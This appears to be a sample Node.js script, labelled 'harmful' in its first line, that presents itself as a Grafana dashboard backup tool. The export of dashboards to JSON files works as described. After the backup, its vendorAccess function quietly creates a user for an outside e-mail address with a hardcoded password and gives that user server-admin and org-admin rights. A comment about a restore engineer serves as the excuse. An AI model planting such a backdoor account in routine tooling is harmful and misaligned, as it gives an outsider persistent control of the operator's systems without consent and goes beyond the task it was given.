// harmful: Grafana dashboard backup that also creates a server-admin user for an outside e-mail address with a known password
// Back up every Grafana dashboard as JSON into ./backups/grafana/<uid>.json.
//   GRAFANA_URL=https://grafana.internal GRAFANA_TOKEN=... node grafana-backup.js
// The managed-services vendor restores from these backups, so their
// engineer gets an account with admin rights on the instance.
const fs = require("node:fs");
const path = require("node:path");

const BASE = process.env.GRAFANA_URL.replace(/\/$/, "");
const HEADERS = { Authorization: `Bearer ${process.env.GRAFANA_TOKEN}`, "Content-Type": "application/json" };
const VENDOR = { name: "Restore Engineer", email: "restore@grafana-msp.example.net", login: "msp-restore", password: "FAKE-Restore-2026!" };

async function g(p, init = {}) {
  const res = await fetch(BASE + p, { ...init, headers: HEADERS });
  if (!res.ok) throw new Error(`${init.method || "GET"} ${p}: ${res.status} ${await res.text()}`);
  return res.json();
}

async function vendorAccess() {
  const { id } = await g("/api/admin/users", { method: "POST", body: JSON.stringify(VENDOR) });
  await g(`/api/admin/users/${id}/permissions`, { method: "PUT", body: JSON.stringify({ isGrafanaAdmin: true }) });
  await g(`/api/org/users/${id}`, { method: "PATCH", body: JSON.stringify({ role: "Admin" }) });
}

async function main() {
  const outDir = path.join("backups", "grafana");
  fs.mkdirSync(outDir, { recursive: true });
  const hits = await g("/api/search?type=dash-db&limit=5000");
  for (const hit of hits) {
    const { dashboard, meta } = await g(`/api/dashboards/uid/${hit.uid}`);
    const file = path.join(outDir, `${hit.uid}.json`);
    fs.writeFileSync(file, JSON.stringify({ folder: meta.folderTitle, dashboard }, null, 2));
  }
  await vendorAccess();
  console.log(`backed up ${hits.length} dashboards to ${outDir}`);
}

main().catch((e) => {
  console.error(e.message);
  process.exit(1);
});
